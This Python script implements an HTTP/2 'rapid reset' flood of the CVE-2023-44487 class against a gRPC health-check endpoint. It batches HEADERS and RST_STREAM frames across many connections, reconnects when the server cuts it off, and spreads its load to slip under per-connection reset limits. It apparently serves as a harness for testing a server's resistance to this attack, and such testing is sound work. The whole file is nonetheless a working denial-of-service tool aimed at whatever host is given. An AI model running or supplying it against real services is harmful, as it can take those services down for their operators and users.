#!/usr/bin/python3
"""HTTP/2 "rapid reset" flood (CVE-2023-44487 class) against a gRPC server.

An independent HTTP/2 client (python3-h2, not gRPC): on each of CONNS
connections it opens streams with HEADERS for /grpc.health.v1.Health/Check
(no token) and cancels each one at once with RST_STREAM(CANCEL), PAIRS pairs
in total. h2 does the connection preface, SETTINGS and the HPACK encoding of
one header block; the pairs themselves are written as pre-built frames,
batched, so the sender is not the bottleneck. Frames from the server are
read and fed to h2 (SETTINGS acks, PING answers, GOAWAY).

Prints one JSON line: {"sent": N, "seconds": S, "closed_by_server": K, ...}.

  h2_rapid_reset.py HOST PORT PAIRS [CONNS] [BATCH] [MODE]

Environment H2_FLOOD_TLS=1: every connection is TLS (ALPN h2, the agent's
certificate not verified, as an attacker would), else plaintext.

MODE "reconnect" (default): CONNS processes, each reconnecting whenever the
server closes its connection. MODE "spread": CONNS connections at once (one
thread each, PAIRS/CONNS pairs each, no reconnect), so that every
connection stays under a per-connection reset limit and only an agent-wide
one can hold the total back; "done" counts connections whose final PING was
answered, i.e. whose pairs all reached the server.
"""

import json
import multiprocessing
import os
import select
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events

METHOD = b"/grpc.health.v1.Health/Check"
# A non-blocking socket (plain or TLS) with nothing to read or no room.
WOULD_BLOCK = (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError)


def frame(ftype, flags, stream_id, payload):
    length = len(payload)
    return (struct.pack(">BHBBI", (length >> 16) & 0xFF, length & 0xFFFF,
                        ftype, flags, stream_id & 0x7FFFFFFF) + payload)


def header_block(host):
    # Literal fields without indexing only, so the same bytes stay valid on
    # every stream (no HPACK dynamic table state involved).
    import hpack
    enc = hpack.Encoder()
    headers = [
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", METHOD),
        (b":authority", host.encode()),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    ]
    return enc.encode([hpack.NeverIndexedHeaderTuple(k, v) for k, v in headers])


def flood_one(host, port, pairs, batch, out):
    # Reconnects whenever the server closes the connection, as an attacker
    # would, until `pairs` pairs were written.
    total = {"sent": 0, "closed_by_server": 0, "goaway": 0, "acked": 0,
             "connections": 0, "error": ""}
    while total["sent"] < pairs and not total["error"]:
        r = flood_connection(host, port, pairs - total["sent"], batch)
        total["connections"] += 1
        for k in ("sent", "closed_by_server", "goaway", "acked"):
            total[k] += int(r.get(k, 0))
        total["error"] = r["error"]
        if r["sent"] == 0 and r["closed_by_server"]:
            # Refused at once: do not spin.
            time.sleep(0.01)
    out.put(total)


def flood_connection(host, port, pairs, batch):
    result = {"sent": 0, "closed_by_server": False, "goaway": False,
              "error": ""}
    try:
        sock = socket.create_connection((host, port), timeout=30)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if os.environ.get("H2_FLOOD_TLS") == "1":
            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
            ctx.set_alpn_protocols(["h2"])
            sock = ctx.wrap_socket(sock, server_hostname=host)
        conn = h2.connection.H2Connection(
            config=h2.config.H2Configuration(client_side=True,
                                             header_encoding=None))
        conn.initiate_connection()
        sock.sendall(conn.data_to_send())
        # Like a careful attacker: acknowledge the server's SETTINGS before
        # the flood (a server may bound streams opened before that).
        settings_wait = time.monotonic() + 5
        head = b""
        while time.monotonic() < settings_wait:
            data = sock.recv(1 << 16)
            if not data:
                break
            head += data
            if (len(head) >= 9 and head[3] == 0x4 and len(head) >= 9 + (
                    (head[0] << 16) | (head[1] << 8) | head[2])):
                sock.sendall(frame(0x4, 0x1, 0, b""))
                break
        block = header_block(host)
        stream_id = 1
        sock.setblocking(False)
        pending = head[9 + ((head[0] << 16) | (head[1] << 8) | head[2]):] \
            if len(head) >= 9 else b""

        def pump():
            # Reads what the server sent; feeds h2 only for connection-level
            # frames (it would reject our hand-made streams otherwise).
            nonlocal pending
            while True:
                try:
                    data = sock.recv(1 << 20)
                except WOULD_BLOCK:
                    return True
                if not data:
                    result["closed_by_server"] = True
                    return False
                pending += data
                while len(pending) >= 9:
                    length = (pending[0] << 16) | (pending[1] << 8) | pending[2]
                    if len(pending) < 9 + length:
                        break
                    ftype, flags = pending[3], pending[4]
                    sid = struct.unpack(">I", pending[5:9])[0] & 0x7FFFFFFF
                    payload = pending[9:9 + length]
                    pending = pending[9 + length:]
                    if ftype == 0x4 and not flags & 0x1:  # SETTINGS
                        sock_send(frame(0x4, 0x1, 0, b""))
                    elif ftype == 0x6 and not flags & 0x1:  # PING
                        sock_send(frame(0x6, 0x1, 0, payload))
                    elif ftype == 0x6 and payload == b"sockdone":
                        result["acked"] = True
                    elif ftype == 0x7:  # GOAWAY
                        result["goaway"] = True
                    del sid

        out_buf = bytearray()

        def sock_send(data):
            out_buf.extend(data)

        def flush(block_until_done):
            while out_buf:
                try:
                    n = sock.send(out_buf)
                    del out_buf[:n]
                except WOULD_BLOCK:
                    if not block_until_done:
                        return True
                    r, w, _ = select.select([sock], [sock], [], 30)
                    if not r and not w:
                        raise TimeoutError("server neither reads nor writes")
                    if r and not pump():
                        return False
                except (BrokenPipeError, ConnectionResetError):
                    result["closed_by_server"] = True
                    return False
            return True

        rst_payload = struct.pack(">I", 0x8)  # CANCEL
        while result["sent"] < pairs:
            n = min(batch, pairs - result["sent"])
            chunk = bytearray()
            for _ in range(n):
                chunk += frame(0x1, 0x4, stream_id, block)  # END_HEADERS
                chunk += frame(0x3, 0x0, stream_id, rst_payload)
                stream_id += 2
            out_buf.extend(chunk)
            if not flush(True) or not pump():
                break
            result["sent"] += n
            if stream_id >= 0x7FFFFFF0:
                break
        # The server answers a PING after every frame before it: once the
        # ack is back, all pairs were read (closing earlier would make the
        # kernel discard what the server had not read yet).
        out_buf.extend(frame(0x6, 0x0, 0, b"sockdone"))
        deadline = time.monotonic() + 120
        while (not result.get("acked") and not result["closed_by_server"]
               and time.monotonic() < deadline):
            if not flush(True):
                break
            select.select([sock], [], [], 1)
            if not pump():
                break
        sock.close()
    except Exception as e:  # noqa: BLE001 - reported, not raised
        if isinstance(e, (ConnectionResetError, BrokenPipeError,
                          ssl.SSLEOFError, ssl.SSLZeroReturnError)):
            result["closed_by_server"] = True
        else:
            result["error"] = f"{type(e).__name__}: {e}"
    return result


def spread(host, port, pairs, conns, batch):
    import threading
    results = [None] * conns
    share = pairs // conns

    def one(i):
        results[i] = flood_connection(host, port, share, batch)

    threads = [threading.Thread(target=one, args=(i,)) for i in range(conns)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return results


def main():
    host, port, pairs = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    conns = int(sys.argv[4]) if len(sys.argv) > 4 else 1
    batch = int(sys.argv[5]) if len(sys.argv) > 5 else 200
    mode = sys.argv[6] if len(sys.argv) > 6 else "reconnect"
    start = time.monotonic()
    if mode == "spread":
        results = spread(host, port, pairs, conns, batch)
        print(json.dumps({
            "sent": sum(r["sent"] for r in results),
            "seconds": round(time.monotonic() - start, 3),
            "connections": conns,
            "closed_by_server": sum(bool(r["closed_by_server"])
                                    for r in results),
            "done": sum(bool(r.get("acked")) for r in results),
            "errors": [r["error"] for r in results if r["error"]],
        }))
        sys.stdout.flush()
        os._exit(0)
    q = multiprocessing.Queue()
    procs = []
    share = pairs // conns
    for i in range(conns):
        n = share + (1 if i < pairs % conns else 0)
        p = multiprocessing.Process(target=flood_one,
                                    args=(host, port, n, batch, q))
        p.start()
        procs.append(p)
    results = [q.get() for _ in procs]
    for p in procs:
        p.join()
    print(json.dumps({
        "sent": sum(r["sent"] for r in results),
        "seconds": round(time.monotonic() - start, 3),
        "connections": sum(r["connections"] for r in results),
        "closed_by_server": sum(r["closed_by_server"] for r in results),
        "goaway": sum(r["goaway"] for r in results),
        "acked": sum(r["acked"] for r in results),
        "errors": [r["error"] for r in results if r["error"]],
    }))
    sys.stdout.flush()
    os._exit(0)


if __name__ == "__main__":
    main()
